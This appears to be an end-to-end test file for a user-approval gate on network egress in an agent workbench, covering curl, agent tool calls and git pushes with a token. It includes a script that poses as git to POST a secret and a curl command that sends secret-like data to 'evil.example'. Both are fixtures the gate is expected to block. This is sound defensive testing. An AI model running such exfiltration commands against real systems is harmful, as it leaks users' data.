/** Egress from the tab: the question, its answers, and git through the gate. */
import { startGitServer } from '../support/git-server.ts'
import { answerAs } from '../support/public-host.ts'
import { expect, test } from '../support/test.ts'
import { text, toolUse } from '../model-server/turn.ts'

test('the user’s own command asks: a denial sends nothing, "once" is once, "always" stays', async ({
  workbench,
}) => {
  await workbench.open()
  const received = await answerAs(workbench.page, 'api.example')
  const command = "curl -sS -d 'a body' https://api.example/x"
  const denied = workbench.exec(command)
  await expect(workbench.permission).toContainText('POST https://api.example/x')
  await expect(workbench.permission).toContainText("curl -sS -d 'a body' https://api.example/x")
  await expect(workbench.permission).toContainText('a body')
  await expect(workbench.status).toHaveText('waiting for you')
  await workbench.permission.getByRole('button', { name: 'Deny' }).click()
  expect(await denied).toMatchObject({
    exitCode: 7,
    stderr:
      'curl: (7) The user refused api.example.\ncurl: To let programs reach api.example, add the rule WebSend(domain:api.example method:POST) under Settings, "Always allow".\n',
  })
  expect(received).toEqual([])

  const once = workbench.exec(command)
  await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
  expect(await once).toMatchObject({ stdout: 'from outside\n', exitCode: 0 })
  expect(received).toEqual(['POST https://api.example/x a body'])

  const always = workbench.exec(command)
  await workbench.permission.getByRole('button', { name: 'Always allow' }).click()
  await always
  await workbench.page.reload()
  await expect(workbench.composer).toBeEditable()
  expect(await workbench.exec(command)).toMatchObject({ stdout: 'from outside\n' })
  await expect(workbench.permission).toBeHidden()
  const log = (await workbench.events()).filter((event) => event.type === 'exit_decided')
  expect(log.map(({ behavior, source }) => `${behavior} by ${source}`)).toEqual([
    'deny by person',
    'allow by person',
    'allow by person',
    'allow by workspace',
  ])
  expect(JSON.stringify(log)).not.toContain('a body')
})

test('the agent fetches a page as Markdown once the user has allowed it', async ({ workbench, model }) => {
  const { page } = workbench
  await page.context().route('https://docs.example/**', (route) =>
    route.fulfill({
      status: 200,
      headers: { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/html' },
      body: '<title>Docs</title><h1>How to</h1><p>Use <code>x</code>.</p><script>evil()</script>',
    }),
  )
  model.setScript([
    { content: [toolUse('WebFetch', { url: 'https://docs.example/how-to' })] },
    { content: [text('Read it.')] },
  ])
  await workbench.open()
  await workbench.configure(model)
  await workbench.send('Look it up')
  await expect(workbench.permission).toContainText('https://docs.example/how-to')
  await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
  await expect(workbench.answers.last()).toContainText('Read it.')
  const results = (await workbench.events()).filter((event) => event.type === 'tool_result')
  expect(results.map(({ content }) => content.content)).toEqual([
    [{ type: 'text', text: 'Title: Docs\n\n# How to\n\nUse `x`.' }],
  ])
})

test('a program that ends takes its question back; the user’s own machine is closed', async ({
  workbench,
}) => {
  await workbench.open()
  const received = await answerAs(workbench.page, 'api.example')
  const timedOut = workbench.exec('curl -sS -m 2 https://api.example/x')
  await expect(workbench.permission).toBeVisible()
  expect(await timedOut).toMatchObject({ exitCode: 28 })
  await expect(workbench.permission).toBeHidden()
  expect(received).toEqual([])
  const closed = await workbench.exec('curl -sS http://localhost:9/x')
  expect(closed).toMatchObject({ exitCode: 7 })
  expect(closed.stderr).toContain('Failed to connect to localhost port 9: Connection refused')
})

test('the agent’s command is asked for once, with the address in it', async ({ workbench, model }) => {
  await workbench.open()
  await workbench.configure(model)
  const received = await answerAs(workbench.page, 'api.example')
  model.setScript([
    { content: [toolUse('Bash', { command: 'curl -s https://api.example/x' })] },
    { content: [text('Done.')] },
  ])
  await workbench.send('Fetch it')
  await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
  await expect(workbench.answers.last()).toContainText('Done.')
  expect(received).toEqual(['GET https://api.example/x'])
})

test('clone, commit and push with a token that the sandbox never sees', async ({ workbench }) => {
  const server = await startGitServer({ token: 'ghp_0123456789abcdef' })
  try {
    server.git('r.work', 'init', '-q', '-b', 'main')
    server.git('r.work', 'commit', '-q', '--allow-empty', '-m', 'first')
    server.git('.', 'clone', '-q', '--bare', 'r.work', 'r.git')
    server.git('r.git', 'config', 'http.receivepack', 'true')
    await workbench.open()
    await workbench.page.getByRole('button', { name: 'Settings' }).first().click()
    const dialog = workbench.page.getByRole('dialog', { name: 'Settings' })
    await dialog.getByLabel('Git host').fill(server.host)
    await dialog.getByLabel('Git token').fill('ghp_0123456789abcdef')
    await dialog.getByLabel('Always allow').fill(`WebFetch(domain:${server.host})`)
    await dialog.getByRole('button', { name: /done/i }).click()
    await expect(dialog).toBeHidden()
    // The rule lets the host be read, but the token goes only where the repository was named for it.
    const cloning = workbench.exec(`git clone -q ${server.url}/r.git r && cd r && git log --format=%s && env`)
    await expect(workbench.permission).toContainText(`With your token for ${server.host}.`)
    await expect(workbench.permission).toContainText(`${server.url}/r.git`)
    expect(server.requests.map(({ authorization }) => authorization)).toEqual([''])
    await workbench.permission.getByRole('button', { name: 'Allow for this session' }).click()
    const cloned = await cloning
    expect(cloned).toMatchObject({ exitCode: 0, stderr: '' })
    expect(cloned.stdout).toMatch(/^first\n/)
    expect(cloned.stdout).not.toContain('ghp_')
    for (const message of ['second', 'third']) {
      const pushed = workbench.exec(
        `cd r && git -c user.name=A -c user.email=a@b commit -q --allow-empty -m ${message} && git push`,
      )
      await expect(workbench.permission).toContainText(`push to ${server.host}`)
      const before = server.git('r.git', 'rev-parse', 'main').slice(0, 9)
      const what = workbench.permission.getByRole('list', { name: 'Pushed refs' })
      await expect(what).toContainText('Changes branch main')
      await expect(what).toContainText(before)
      await expect(workbench.permission.getByRole('button', { name: 'Always allow' })).toBeHidden()
      await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
      expect(await pushed).toMatchObject({ exitCode: 0 })
      expect(server.git('r.git', 'log', '-1', '--format=%s', 'main')).toBe(`${message}\n`)
    }
    expect(server.requests.filter(({ url }) => url.endsWith('/git-receive-pack'))).toHaveLength(2)
  } finally {
    await server.close()
  }
})

test('a program that calls itself git gets no token, and what it sends like a push is asked for', async ({
  workbench,
}) => {
  const server = await startGitServer({ token: 'ghp_0123456789abcdef' })
  try {
    server.git('r.git', 'init', '-q', '--bare')
    await workbench.open()
    await workbench.page.getByRole('button', { name: 'Settings' }).first().click()
    const dialog = workbench.page.getByRole('dialog', { name: 'Settings' })
    await dialog.getByLabel('Git host').fill(server.host)
    await dialog.getByLabel('Git token').fill('ghp_0123456789abcdef')
    await dialog
      .getByLabel('Always allow')
      .fill(
        `WebFetch(domain:${server.host})\nWebSend(domain:${server.host})\nWebFetch(repository:${server.url}/r.git)`,
      )
    await dialog.getByRole('button', { name: /done/i }).click()
    await expect(dialog).toBeHidden()
    const program = `process.title = 'git push'
      process.argv = ['git', 'push']
      const at = '${server.url}/r.git'
      for (const service of ['git-upload-pack', 'git-receive-pack'])
        console.log((await fetch(at + '/info/refs?service=' + service)).status)
      console.log((await fetch(at + '/git-receive-pack', { method: 'POST', body: 'SECRET=1' })).status)`
    const running = workbench.exec(`cat > evil.mjs <<'E'\n${program}\nE\nnode evil.mjs`)
    await expect(workbench.permission).toContainText('It cannot be read what this would push')
    await expect(workbench.permission).toContainText('node evil.mjs')
    await expect(workbench.permission).not.toContainText('With your token')
    await workbench.permission.getByRole('button', { name: 'Deny' }).click()
    expect(await running).toMatchObject({ stdout: '401\n401\n403\n' })
    expect(server.requests.map(({ method, authorization }) => method + authorization)).toEqual(['GET', 'GET'])
  } finally {
    await server.close()
  }
})

test('how much leaves in an address and in headers is seen at once', async ({ workbench }) => {
  await workbench.open()
  const received = await answerAs(workbench.page, 'evil.example')
  const running = workbench.exec(
    `x=$(printf '%6300s' | tr ' ' A); curl -sS -H "X-Secret: $x" "https://evil.example/?token=$x"`,
  )
  await expect(workbench.permission).toContainText('The address has 6,308 characters behind its host.')
  await expect(workbench.permission.getByText('13 kB would leave.')).toBeInViewport()
  await expect(workbench.permission.getByText('The header X-Secret has 6,300 characters.')).toBeInViewport()
  await workbench.permission.getByRole('button', { name: 'Deny' }).click()
  expect(await running).toMatchObject({ exitCode: 7 })
  expect(received).toEqual([])
})
